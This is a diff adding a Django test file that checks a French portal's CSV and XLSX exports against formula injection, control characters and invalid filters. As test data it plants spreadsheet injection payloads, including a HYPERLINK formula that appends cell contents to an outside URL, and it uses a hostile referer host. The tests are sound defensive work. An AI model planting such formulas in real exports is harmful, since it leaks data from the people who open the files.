@@ -1,0 +1,349 @@
+"""The one export mechanism: every CSV and XLSX export of the portal, checked together.
+
+- Formula injection (issue 15, item 1): text planted in every text field that reaches an export comes out
+  quoted, and no XLSX cell is a formula; numbers stay numbers.
+- Control characters (item 4): a vertical tab in meeting minutes or a support request never makes an export fail.
+- Invalid filters (issue 14): every export answers a filter its list's form refuses with 400 and the French error.
+- Years out of range on the order forms (item 12): a French error on the list, 400 on the exports.
+"""
+
+import csv
+import datetime
+import io
+import itertools
+import re
+from decimal import Decimal
+
+import pytest
+from django.db import models
+from django.urls import URLPattern, URLResolver, get_resolver, reverse
+from openpyxl import load_workbook
+
+from ateliers.models import Registration, Workshop
+from communes.models import Commune, Contact
+from missions.mission1.models.action_plans import Action, Indicator
+from missions.mission1.models.meetings import Meeting
+from missions.money.models.orders import OrderForm, OrderLine
+from missions.money.models.time import TimeEntry
+from missions.support.models import SupportRequest
+from pat_portal.kernel.exports import safe_text, spreadsheet_response
+from pat_portal.kernel.models import User
+from tests.factories import CommuneFactory, ContactFactory, ProgrammeFactory
+from tests.factories_ateliers import RegistrationFactory, WorkshopFactory
+from tests.factories_mission1 import (
+    AccompanimentFactory,
+    ActionFactory,
+    ActionPlanFactory,
+    FundingSourceFactory,
+    IndicatorValueFactory,
+    MeetingFactory,
+    MeetingParticipantFactory,
+)
+from tests.factories_orders import OrderFormFactory, OrderLineFactory, TimeEntryFactory
+from tests.factories_support import SupportRequestFactory
+
+pytestmark = pytest.mark.django_db
+
+FORMATS = ("csv", "xlsx")
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+FORMULAS = ['=HYPERLINK("http://x"&A2,"Cliquez")', "+1", "-2+3", "@SUM(A1)", "\tX", "\rX"]
+CONTROL_TEXTS = ["avant\x0bapres", "page\x0c\x0bsuivante", "\x01\x0b\x1fdebut", "fin\x08\x0b"]
+CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
+CSV_NUMBER = re.compile(r"^-?\d+(,\d+)?$")
+
+# Each export, what it needs in its URL, and a filter its list's form refuses (None: the export has no filter).
+EXPORTS = {
+    "exports:communes": ({}, {"population": "beaucoup"}, "Population"),
+    "exports:actions": ({}, {"theme": "inconnu"}, "Thème"),
+    "exports:meetings": ({}, {"date_from": "31/02/2026"}, "Du"),
+    "exports:contacts": ({}, {"category": "inconnue"}, "Catégorie"),
+    "exports:support_requests": ({}, {"status": "inconnu"}, "Statut"),
+    "missions:order_form_export": ({}, {"year": "0"}, "Année"),
+    "missions:order_line_export": ({}, {"year": "0"}, "Année"),
+    "missions:time_export": ({}, {"month": "2026-13"}, "Mois"),
+    "ateliers:contacts_export": ({"pk": "workshop"}, None, None),
+}
+# Every model whose text reaches an export; fields that are not free text people type are left alone.
+PLANTED_MODELS = [
+    Commune,
+    Contact,
+    User,
+    Meeting,
+    Action,
+    Indicator,
+    SupportRequest,
+    OrderForm,
+    OrderLine,
+    TimeEntry,
+    Workshop,
+    Registration,
+]
+# What the downloads ask for: the meetings' internal notes (GBM's column), every support request (not only the queue's).
+QUERIES = {"exports:meetings": {"notes_internes": "1"}, "exports:support_requests": {"status": "toutes"}}
+NOT_PLANTED = {"insee_code", "username", "password", "calendar_token", "reference"}
+
+
+def export_url_names() -> set[str]:
+    def walk(patterns, namespace=""):
+        for pattern in patterns:
+            if isinstance(pattern, URLResolver):
+                yield from walk(
+                    pattern.url_patterns, f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
+                )
+            elif isinstance(pattern, URLPattern) and ":fmt>" in str(pattern.pattern):
+                yield f"{namespace}{pattern.name}"
+
+    return set(walk(get_resolver().url_patterns))
+
+
+def build(gbm_officer) -> dict:
+    """One row in every export, every row reaching the people and the text each export shows."""
+    programme = ProgrammeFactory()
+    commune = CommuneFactory()
+    accompaniment = AccompanimentFactory(programme=programme, commune=commune)
+    contact = ContactFactory(commune=commune, consenting=True, organisation="Ferme", role_title="Maraîchère")
+    meeting = MeetingFactory(
+        accompaniment=accompaniment, created_by=gbm_officer, place="Mairie", minutes="Compte rendu", agenda="Ordre"
+    )
+    MeetingParticipantFactory(meeting=meeting, contact=contact)
+    action = ActionFactory(plan=ActionPlanFactory(accompaniment=accompaniment), partners="Chambre d'agriculture")
+    FundingSourceFactory(action=action)
+    IndicatorValueFactory(indicator__action=action)
+    SupportRequestFactory(programme=programme, commune=commune, organisation="Association", accepted=True)
+    order_form = OrderFormFactory(programme=programme, commune=commune)
+    line = OrderLineFactory(order_form=order_form)
+    TimeEntryFactory(order_line=line, accompaniment=accompaniment, comment="Préparation")
+    workshop = WorkshopFactory(programme=programme, held=True)
+    RegistrationFactory(workshop=workshop, contact=contact, commune=commune, present=True, consenting=True)
+    return {"workshop": workshop.pk}
+
+
+def plant(texts: list[str]) -> None:
+    """Write `texts`, in turn, into every free-text field of every row of the models that reach an export."""
+    cycle = itertools.cycle(texts)
+    for model in PLANTED_MODELS:
+        fields = [
+            field
+            for field in model._meta.concrete_fields
+            if isinstance(field, models.CharField | models.TextField)
+            and not field.choices
+            and field.name not in NOT_PLANTED
+            and (field.max_length is None or field.max_length >= 8)
+        ]
+        for pk in model.objects.values_list("pk", flat=True):
+            values = {}
+            for field in fields:
+                text = next(cycle) + (f" {pk}-{field.name}" if field.unique else "")
+                values[field.name] = text[: field.max_length] if field.max_length else text
+            model.objects.filter(pk=pk).update(**values)
+
+
+def download(client, name: str, fmt: str, data: dict, query: dict | None = None):
+    kwargs, _invalid, _label = EXPORTS[name]
+    url = reverse(name, kwargs={key: data[value] for key, value in kwargs.items()} | {"fmt": fmt})
+    response = client.get(url, query if query is not None else QUERIES.get(name, {}))
+    assert response.status_code == 200, f"{url}: {response.status_code}"
+    return b"".join(response.streaming_content)
+
+
+def cells(body: bytes, fmt: str) -> list[tuple[object, str | None]]:
+    """Every cell of a download: its value and, for XLSX, openpyxl's data type ("f" is a formula)."""
+    if fmt == "csv":
+        text = body.decode("utf-8")
+        assert text.startswith("\ufeff")
+        return [(value, None) for row in csv.reader(io.StringIO(text[1:]), delimiter=";") for value in row]
+    sheet = load_workbook(io.BytesIO(body)).active
+    return [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row]
+
+
+def test_every_export_is_checked_here():
+    assert export_url_names() == set(EXPORTS)
+
+
+def test_no_export_cell_is_a_formula_and_every_formula_trigger_is_quoted(client, gbm_officer):
+    data = build(gbm_officer)
+    plant(FORMULAS)
+    client.force_login(gbm_officer)
+    quoted_everywhere = set()
+    for name, fmt in itertools.product(EXPORTS, FORMATS):
+        found = cells(download(client, name, fmt, data), fmt)
+        assert not [value for value, data_type in found if data_type == "f"], f"{name} {fmt}: a formula cell"
+        texts = [value for value, _ in found if isinstance(value, str)]
+        unsafe = [text for text in texts if text.startswith(FORMULA_TRIGGERS) and not CSV_NUMBER.match(text)]
+        assert unsafe == [], f"{name} {fmt}: cells a spreadsheet would run: {unsafe}"
+        quoted = {text for text in texts if text.startswith("'")}
+        assert quoted, f"{name} {fmt}: no planted text reached this export"
+        quoted_everywhere |= quoted
+    for formula in FORMULAS:
+        expected = "'" + formula.replace("\r", "")
+        assert any(text.replace("\r", "").replace("\n", "").startswith(expected) for text in quoted_everywhere), (
+            formula
+        )
+
+
+def test_control_characters_never_break_an_export(client, gbm_officer):
+    data = build(gbm_officer)
+    plant(CONTROL_TEXTS)
+    meeting, support_request = Meeting.objects.get(), SupportRequest.objects.get()
+    assert all("\x0b" in text for text in (meeting.minutes, meeting.title, meeting.place, support_request.title))
+    client.force_login(gbm_officer)
+    for name, fmt in itertools.product(EXPORTS, FORMATS):
+        texts = [value for value, _ in cells(download(client, name, fmt, data), fmt) if isinstance(value, str)]
+        assert not [text for text in texts if CONTROL.search(text)], f"{name} {fmt}: a control character was kept"
+        assert {"avantapres", "pagesuivante", "debut", "fin"} & {text.split(" ")[0] for text in texts}, name
+
+
+@pytest.mark.parametrize("name", [name for name, (_kwargs, invalid, _label) in EXPORTS.items() if invalid])
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_an_invalid_filter_is_refused_with_a_french_error_by_every_export(client, gbm_officer, name, fmt):
+    data = build(gbm_officer)
+    kwargs, invalid, label = EXPORTS[name]
+    client.force_login(gbm_officer)
+    url = reverse(name, kwargs={key: data[value] for key, value in kwargs.items()} | {"fmt": fmt})
+    response = client.get(url, invalid)
+    assert response.status_code == 400
+    assert response["Content-Type"].startswith("text/html")
+    page = response.content.decode()
+    assert "Export impossible" in page
+    assert f"<li>{label} : " in page
+
+
+def test_the_workshop_contact_list_has_no_filter_to_refuse(client, gbm_officer):
+    data = build(gbm_officer)
+    client.force_login(gbm_officer)
+    body = download(client, "ateliers:contacts_export", "csv", data, {"population": "beaucoup"})
+    assert "Maraîchère" in body.decode()
+
+
+def test_invalid_filter_page_links_back_only_to_the_portal(client, gbm_officer):
+    client.force_login(gbm_officer)
+    url = reverse("exports:actions", kwargs={"fmt": "csv"})
+    response = client.get(url, {"theme": "x"}, HTTP_REFERER="http://testserver/actions/?theme=x")
+    assert 'href="http://testserver/actions/?theme=x"' in response.content.decode()
+    response = client.get(url, {"theme": "x"}, HTTP_REFERER="https://evil.example/")
+    assert "evil.example" not in response.content.decode()
+
+
+def test_a_valid_filter_still_narrows_every_filtered_export(client, gbm_officer):
+    CommuneFactory(name="Petite", population=300)
+    CommuneFactory(name="Grande", population=120000)
+    client.force_login(gbm_officer)
+    response = client.get(reverse("exports:communes", kwargs={"fmt": "csv"}), {"population": "lt1000"})
+    names = [value for value, _ in cells(b"".join(response.streaming_content), "csv")]
+    assert "Petite" in names and "Grande" not in names
+
+
+@pytest.mark.parametrize("year", ["0", "10000", "-5", "99999999999999999999", "2026.5", "deux mille"])
+def test_an_order_form_year_out_of_range_is_a_french_error_on_the_list_and_refused_by_the_exports(
+    client, consultant, year
+):
+    OrderFormFactory(issued_on=datetime.date(2026, 3, 2))
+    client.force_login(consultant)
+    response = client.get(reverse("missions:order_form_list"), {"year": year})
+    assert response.status_code == 200
+    errors = response.context["filter"].form.errors["year"]
+    assert errors and all("Assurez-vous" in error or "Saisissez un nombre entier" in error for error in errors), errors
+    assert f'value="{year}"' in response.content.decode()
+    assert response.context["budgets"] == []
+    for name, fmt in itertools.product(["missions:order_form_export", "missions:order_line_export"], FORMATS):
+        response = client.get(reverse(name, kwargs={"fmt": fmt}), {"year": year})
+        assert response.status_code == 400, (name, fmt)
+        assert "<li>Année : " in response.content.decode()
+
+
+def test_an_order_form_year_in_range_filters_the_list_and_the_exports(client, consultant):
+    OrderFormFactory(number="BC-2026-001", issued_on=datetime.date(2026, 3, 2), with_lines=True)
+    OrderFormFactory(number="BC-2025-001", issued_on=datetime.date(2025, 3, 2), with_lines=True)
+    client.force_login(consultant)
+    response = client.get(reverse("missions:order_form_list"), {"year": "2026"})
+    assert [item.order_form.number for item in response.context["budgets"]] == ["BC-2026-001"]
+    for name in ("missions:order_form_export", "missions:order_line_export"):
+        body = b"".join(client.get(reverse(name, kwargs={"fmt": "csv"}), {"year": "2026"}).streaming_content)
+        assert "BC-2026-001" in body.decode() and "BC-2025-001" not in body.decode()
+
+
+def test_numbers_stay_numbers_and_text_that_looks_like_one_is_quoted():
+    columns = {
+        "Montant": lambda row: row["amount"],
+        "Nombre": lambda row: row["count"],
+        "Texte": lambda row: row["text"],
+    }
+    rows = [{"amount": Decimal("-5.50"), "count": -2, "text": "-5"}]
+    response = spreadsheet_response(rows, columns, "essai", "xlsx")
+    body = b"".join(response.streaming_content)
+    response.close()
+    sheet = load_workbook(io.BytesIO(body)).active
+    assert [cell.value for cell in sheet[2]] == [Decimal("-5.5"), -2, "'-5"]
+    assert [cell.data_type for cell in sheet[2]] == ["n", "n", "s"]
+    response = spreadsheet_response(rows, columns, "essai", "csv")
+    assert b"".join(response.streaming_content).decode().splitlines()[1] == "-5,50;-2;'-5"
+
+
+@pytest.mark.parametrize(
+    ("text", "safe"),
+    [
+        ("=1+1", "'=1+1"),
+        ("Compte\x0brendu", "Compterendu"),
+        ("\x0b=1", "'=1"),
+        ("ligne 1\nligne 2\tfin", "ligne 1\nligne 2\tfin"),
+        ("d'Amagney", "d'Amagney"),
+        ("", ""),
+    ],
+)
+def test_safe_text_quotes_formulas_and_drops_control_characters(text, safe):
+    assert safe_text(text) == safe
+
+
+def test_the_public_support_form_drops_control_characters(client, commune):
+    from django.core.cache import cache
+
+    cache.clear()
+    ProgrammeFactory()
+    data = {
+        "requester_kind": SupportRequest.RequesterKind.ASSOCIATION,
+        "organisation": "Les Croqueurs\x0b de pommes",
+        "contact_name": "Hélène\x0c Jacquot",
+        "email": "helene@example.org",
+        "phone": "06 00 00 00 00",
+        "commune": commune.pk,
+        "title": "Verger\x0b conservatoire",
+        "kind": SupportRequest.Kind.ORCHARD,
+        "description": "Planter 30 arbres\x1f fruitiers.\nSur un terrain communal.",
+        "help_wanted": "Partenaires\x0b.",
+        "already_under_way": "0",
+        "website": "",
+    }
+    assert client.post("/demandes/nouvelle/", data).status_code == 302
+    request = SupportRequest.objects.get()
+    assert (request.organisation, request.contact_name, request.title) == (
+        "Les Croqueurs de pommes",
+        "Hélène Jacquot",
+        "Verger conservatoire",
+    )
+    assert request.description == "Planter 30 arbres fruitiers.\nSur un terrain communal."
+
+
+def test_the_meeting_form_drops_control_characters(client, consultant, commune):
+    accompaniment = AccompanimentFactory(commune=commune)
+    client.force_login(consultant)
+    data = {
+        "starts_at": "2025-03-04T18:30",
+        "kind": "elus",
+        "title": "Point\x0b d'étape",
+        "place": "Mairie\x0c",
+        "accompaniment": accompaniment.pk,
+        "count_elus": 2,
+        "count_residents": 0,
+        "count_associations": 1,
+        "count_farmers": 0,
+        "count_others": 0,
+        "minutes": "On avance.\x0b\nSuite au prochain épisode.",
+        "time_spent_half_days": "1",
+    }
+    assert client.post(reverse("missions:meeting_create"), data).status_code == 302
+    meeting = Meeting.objects.get()
+    assert (meeting.title, meeting.place, meeting.minutes) == (
+        "Point d'étape",
+        "Mairie",
+        "On avance.\nSuite au prochain épisode.",
+    )
